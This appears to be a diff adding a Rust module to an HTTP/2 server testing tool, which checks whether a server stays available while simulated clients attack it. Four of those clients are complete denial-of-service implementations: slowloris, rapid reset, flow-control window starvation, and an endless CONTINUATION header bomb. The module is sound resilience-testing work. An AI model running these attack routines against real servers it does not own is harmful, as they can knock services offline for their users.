@@ -0,0 +1,481 @@
+//! Misbehaving clients: each persona attacks the server in its own way over
+//! a number of connections, while a well-behaved client probes it with the
+//! request template at a regular interval. The server passes if enough
+//! probes succeed, quickly enough.
+
+use std::{
+    fmt,
+    net::SocketAddr,
+    rc::Rc,
+    str::FromStr,
+    time::{Duration, Instant},
+};
+
+use buffet::net::TcpStream;
+use httpwg::{Config, Conn, Ev, Headers};
+use loona_h2::{
+    enumflags2::BitFlags, DataFlags, Frame, FrameType, HeadersFlags, KnownErrorCode, Setting,
+    SettingPairs, StreamId, PREFACE,
+};
+use tokio::sync::mpsc::error::TryRecvError;
+
+use crate::load::{self, LoadConf, MAX_STREAM_ID};
+
+/// How long slowloris waits between two bytes
+const SLOWLORIS_INTERVAL: Duration = Duration::from_secs(1);
+
+/// How many streams the window-starver opens if the server doesn't say
+const WINDOW_STARVER_STREAMS: usize = 100;
+
+/// How large a header the header bomber sends in each CONTINUATION frame
+const HEADER_BOMB_LEN: usize = 8 * 1024;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Persona {
+    /// Sends a request one byte at a time, as slowly as it can get away with
+    Slowloris,
+
+    /// Opens streams and immediately cancels them, as fast as possible
+    RapidReset,
+
+    /// Opens as many streams as allowed, with a flow control window of zero,
+    /// and never reads the responses
+    WindowStarver,
+
+    /// Sends an endless header block, one CONTINUATION frame at a time
+    HeaderBomber,
+}
+
+impl Persona {
+    pub const ALL: [Persona; 4] = [
+        Persona::Slowloris,
+        Persona::RapidReset,
+        Persona::WindowStarver,
+        Persona::HeaderBomber,
+    ];
+
+    pub fn name(self) -> &'static str {
+        match self {
+            Persona::Slowloris => "slowloris",
+            Persona::RapidReset => "rapid-reset",
+            Persona::WindowStarver => "window-starver",
+            Persona::HeaderBomber => "header-bomber",
+        }
+    }
+}
+
+impl fmt::Display for Persona {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.name())
+    }
+}
+
+impl FromStr for Persona {
+    type Err = eyre::Report;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        Self::ALL
+            .into_iter()
+            .find(|p| p.name() == s)
+            .ok_or_else(|| {
+                let names: Vec<_> = Self::ALL.iter().map(|p| p.name()).collect();
+                eyre::eyre!(
+                    "Unknown persona {s:?}, expected one of {}",
+                    names.join(", ")
+                )
+            })
+    }
+}
+
+/// Who attacks, for how long, and what counts as staying available
+pub struct PersonaConf {
+    pub persona: Persona,
+
+    /// how many connections attack at once
+    pub attackers: usize,
+
+    /// how long the attack lasts
+    pub duration: Duration,
+
+    /// how often to probe the server
+    pub probe_interval: Duration,
+
+    /// how long a probe may take before it counts as failed
+    pub probe_timeout: Duration,
+
+    /// the highest acceptable p99 probe latency
+    pub max_probe_latency: Duration,
+
+    /// the lowest acceptable ratio of successful probes, between 0 and 1
+    pub min_probe_success: f64,
+
+    /// the request probes send (and some personas abuse)
+    pub request: Headers,
+}
+
+/// What the attackers got up to
+#[derive(Default)]
+struct AttackStats {
+    /// connections the attackers managed to open
+    connections: u64,
+
+    /// connections the server closed or sent GOAWAY on
+    closed_by_server: u64,
+
+    /// connections that couldn't be opened or failed otherwise
+    errors: u64,
+
+    /// frames (or, for slowloris, bytes) sent
+    sent: u64,
+}
+
+impl AttackStats {
+    fn merge(&mut self, other: AttackStats) {
+        self.connections += other.connections;
+        self.closed_by_server += other.closed_by_server;
+        self.errors += other.errors;
+        self.sent += other.sent;
+    }
+}
+
+/// How a single attacking connection ended
+enum AttackOutcome {
+    /// the attack is over
+    Deadline,
+
+    /// the server closed the connection (or asked us to go away)
+    ServerClosed,
+}
+
+/// Attacks the server at `addr` as `conf.persona` while probing it. Prints a
+/// report to stderr and returns whether the server stayed available.
+pub async fn run(addr: SocketAddr, conf: PersonaConf) -> bool {
+    let conf = Rc::new(conf);
+    let deadline = Instant::now() + conf.duration;
+
+    eprintln!(
+        "🎭 Attacking {addr} as {} for {:?} with {} connections",
+        conf.persona, conf.duration, conf.attackers
+    );
+
+    let mut attackers = Vec::with_capacity(conf.attackers);
+    for _ in 0..conf.attackers {
+        let conf = conf.clone();
+        attackers.push(tokio::task::spawn_local(async move {
+            let mut stats = AttackStats::default();
+            attack(addr, &conf, deadline, &mut stats).await;
+            stats
+        }));
+    }
+
+    let mut probes = Vec::new();
+    let mut interval = tokio::time::interval(conf.probe_interval);
+    while Instant::now() < deadline {
+        interval.tick().await;
+        let conf = conf.clone();
+        probes.push(tokio::task::spawn_local(
+            async move { probe(addr, &conf).await },
+        ));
+    }
+
+    let mut attack_stats = AttackStats::default();
+    for attacker in attackers {
+        attack_stats.merge(attacker.await.unwrap());
+    }
+    let mut latencies = Vec::with_capacity(probes.len());
+    let num_probes = probes.len();
+    for probe in probes {
+        if let Some(latency) = probe.await.unwrap() {
+            latencies.push(latency);
+        }
+    }
+
+    eprintln!(
+        "   attackers: {} connections opened, {} closed by the server, {} failed, {} {} sent",
+        attack_stats.connections,
+        attack_stats.closed_by_server,
+        attack_stats.errors,
+        attack_stats.sent,
+        match conf.persona {
+            Persona::Slowloris => "bytes",
+            _ => "frames",
+        }
+    );
+
+    let success = latencies.len() as f64 / num_probes.max(1) as f64;
+    latencies.sort_unstable();
+    let mut p99 = None;
+    if latencies.is_empty() {
+        eprintln!("   probes: 0/{num_probes} succeeded");
+    } else {
+        p99 = Some(load::percentile(&latencies, 0.99));
+        eprintln!(
+            "   probes: {}/{num_probes} succeeded, latency p50 {:?}, p99 {:?}",
+            latencies.len(),
+            load::percentile(&latencies, 0.5),
+            load::percentile(&latencies, 0.99),
+        );
+    }
+
+    let passed =
+        success >= conf.min_probe_success && p99.is_some_and(|p99| p99 <= conf.max_probe_latency);
+    if passed {
+        eprintln!(
+            "✅ {addr} stayed available under {} ({:.1}% probes succeeded, p99 within {:?})",
+            conf.persona,
+            success * 100.0,
+            conf.max_probe_latency
+        );
+    } else {
+        eprintln!(
+            "❌ {addr} did not stay available under {}: wanted {:.1}% probes to succeed with a p99 within {:?}",
+            conf.persona,
+            conf.min_probe_success * 100.0,
+            conf.max_probe_latency
+        );
+    }
+    passed
+}
+
+/// Sends one request over a fresh connection, returns how long it took to
+/// get a response, if it got one in time and it wasn't a 5xx.
+async fn probe(addr: SocketAddr, conf: &PersonaConf) -> Option<Duration> {
+    let config = Rc::new(Config {
+        timeout: conf.probe_timeout,
+        ..Default::default()
+    });
+    let load = LoadConf {
+        connections: 1,
+        streams: 1,
+        duration: conf.probe_timeout,
+        requests: Some(1),
+        request: conf.request.clone(),
+    };
+
+    let mut stats = load::Stats::default();
+    let res = tokio::time::timeout(
+        conf.probe_timeout,
+        load::drive_conn(addr, config, &load, &mut stats),
+    )
+    .await;
+    match res {
+        Ok(Ok(())) if stats.server_errors == 0 && stats.resets == 0 => {
+            stats.latencies.first().copied()
+        }
+        _ => None,
+    }
+}
+
+/// Attacks over one connection after the other, until `deadline`
+async fn attack(addr: SocketAddr, conf: &PersonaConf, deadline: Instant, stats: &mut AttackStats) {
+    // the attack may go on for a while without the server sending anything,
+    // don't let the connection time out on our side
+    let config = Rc::new(Config {
+        timeout: conf.duration + conf.probe_timeout,
+        ..Default::default()
+    });
+
+    while Instant::now() < deadline {
+        let stream = match tokio::time::timeout(conf.probe_timeout, TcpStream::connect(addr)).await
+        {
+            Ok(Ok(stream)) => stream,
+            _ => {
+                stats.errors += 1;
+                // don't spin if the server stopped accepting connections
+                tokio::time::sleep(Duration::from_millis(100)).await;
+                continue;
+            }
+        };
+        stats.connections += 1;
+
+        let mut conn = Conn::new(config.clone(), stream);
+        let res = match conf.persona {
+            Persona::Slowloris => slowloris(&mut conn, conf, deadline, stats).await,
+            Persona::RapidReset => rapid_reset(&mut conn, conf, deadline, stats).await,
+            Persona::WindowStarver => window_starver(&mut conn, conf, deadline, stats).await,
+            Persona::HeaderBomber => header_bomber(&mut conn, deadline, stats).await,
+        };
+        match res {
+            Ok(AttackOutcome::Deadline) => {}
+            // if the server hung up on us, writes fail too
+            Ok(AttackOutcome::ServerClosed) | Err(_) => stats.closed_by_server += 1,
+        }
+    }
+}
+
+/// Whether the server closed the connection or sent GOAWAY. Drains any
+/// frames it sent, calling `on_frame` for each.
+fn server_gone(conn: &mut Conn<TcpStream>, mut on_frame: impl FnMut(&Frame)) -> bool {
+    loop {
+        match conn.ev_rx.try_recv() {
+            Ok(Ev::Frame { frame, .. }) => {
+                if matches!(frame.frame_type, FrameType::GoAway) {
+                    return true;
+                }
+                on_frame(&frame);
+            }
+            Ok(Ev::IoError { .. }) | Err(TryRecvError::Disconnected) => return true,
+            Err(TryRecvError::Empty) => return false,
+        }
+    }
+}
+
+async fn slowloris(
+    conn: &mut Conn<TcpStream>,
+    conf: &PersonaConf,
+    deadline: Instant,
+    stats: &mut AttackStats,
+) -> eyre::Result<AttackOutcome> {
+    // a perfectly valid request, just very, very slow
+    let mut bytes = PREFACE.to_vec();
+    Frame::new(
+        FrameType::Settings(Default::default()),
+        StreamId::CONNECTION,
+    )
+    .write_into(&mut bytes)?;
+    let block = conn.encode_headers(&conf.request)?;
+    Frame::new(
+        FrameType::Headers(HeadersFlags::EndHeaders | HeadersFlags::EndStream),
+        StreamId(1),
+    )
+    .with_len(block.len() as u32)
+    .write_into(&mut bytes)?;
+    bytes.extend_from_slice(&block[..]);
+
+    for b in bytes {
+        if Instant::now() >= deadline {
+            return Ok(AttackOutcome::Deadline);
+        }
+        if server_gone(conn, |_| {}) {
+            return Ok(AttackOutcome::ServerClosed);
+        }
+        conn.send(vec![b]).await?;
+        stats.sent += 1;
+        tokio::time::sleep(SLOWLORIS_INTERVAL).await;
+    }
+
+    // the request made it through, sit on the connection
+    while Instant::now() < deadline {
+        if server_gone(conn, |_| {}) {
+            return Ok(AttackOutcome::ServerClosed);
+        }
+        tokio::time::sleep(SLOWLORIS_INTERVAL).await;
+    }
+    Ok(AttackOutcome::Deadline)
+}
+
+async fn rapid_reset(
+    conn: &mut Conn<TcpStream>,
+    conf: &PersonaConf,
+    deadline: Instant,
+    stats: &mut AttackStats,
+) -> eyre::Result<AttackOutcome> {
+    conn.handshake().await?;
+
+    let mut stream_id = StreamId(1);
+    while Instant::now() < deadline {
+        if server_gone(conn, |_| {}) {
+            return Ok(AttackOutcome::ServerClosed);
+        }
+        conn.encode_and_write_headers(
+            stream_id,
+            HeadersFlags::EndHeaders | HeadersFlags::EndStream,
+            &conf.request,
+        )
+        .await?;
+        conn.write_rst_stream(stream_id, KnownErrorCode::Cancel)
+            .await?;
+        stats.sent += 2;
+
+        stream_id.0 += 2;
+        if stream_id.0 > MAX_STREAM_ID {
+            // out of stream IDs, start over on a new connection
+            return Ok(AttackOutcome::Deadline);
+        }
+        // we never wait on the server: give the probes a chance to run
+        tokio::task::yield_now().await;
+    }
+    Ok(AttackOutcome::Deadline)
+}
+
+async fn window_starver(
+    conn: &mut Conn<TcpStream>,
+    conf: &PersonaConf,
+    deadline: Instant,
+    stats: &mut AttackStats,
+) -> eyre::Result<AttackOutcome> {
+    conn.handshake().await?;
+    conn.write_settings(SettingPairs::from(
+        [(Setting::InitialWindowSize, 0)].as_ref(),
+    ))
+    .await?;
+    stats.sent += 1;
+
+    let max_streams = conn
+        .settings
+        .max_concurrent_streams
+        .map_or(WINDOW_STARVER_STREAMS, |max| max as usize);
+    let mut open_streams: usize = 0;
+    let mut stream_id = StreamId(1);
+
+    while Instant::now() < deadline {
+        // streams only end if the server resets them, or sends an empty
+        // response: open new ones to replace them
+        let gone = server_gone(conn, |frame| match frame.frame_type {
+            FrameType::RstStream => open_streams = open_streams.saturating_sub(1),
+            FrameType::Headers(flags) if flags.contains(HeadersFlags::EndStream) => {
+                open_streams = open_streams.saturating_sub(1)
+            }
+            FrameType::Data(flags) if flags.contains(DataFlags::EndStream) => {
+                open_streams = open_streams.saturating_sub(1)
+            }
+            _ => {}
+        });
+        if gone {
+            return Ok(AttackOutcome::ServerClosed);
+        }
+
+        while open_streams < max_streams && stream_id.0 <= MAX_STREAM_ID {
+            conn.encode_and_write_headers(
+                stream_id,
+                HeadersFlags::EndHeaders | HeadersFlags::EndStream,
+                &conf.request,
+            )
+            .await?;
+            stats.sent += 1;
+            open_streams += 1;
+            stream_id.0 += 2;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    Ok(AttackOutcome::Deadline)
+}
+
+async fn header_bomber(
+    conn: &mut Conn<TcpStream>,
+    deadline: Instant,
+    stats: &mut AttackStats,
+) -> eyre::Result<AttackOutcome> {
+    conn.handshake().await?;
+
+    let mut bomb = Headers::default();
+    bomb.append("x-bomb", vec![b'a'; HEADER_BOMB_LEN]);
+    let fragment = conn.encode_headers(&bomb)?;
+
+    let stream_id = StreamId(1);
+    conn.write_headers(stream_id, HeadersFlags::EndStream, fragment.clone())
+        .await?;
+    stats.sent += 1;
+
+    // ...and the block never ends
+    while Instant::now() < deadline {
+        if server_gone(conn, |_| {}) {
+            return Ok(AttackOutcome::ServerClosed);
+        }
+        conn.write_continuation(stream_id, BitFlags::empty(), fragment.clone())
+            .await?;
+        stats.sent += 1;
+        tokio::task::yield_now().await;
+    }
+    Ok(AttackOutcome::Deadline)
+}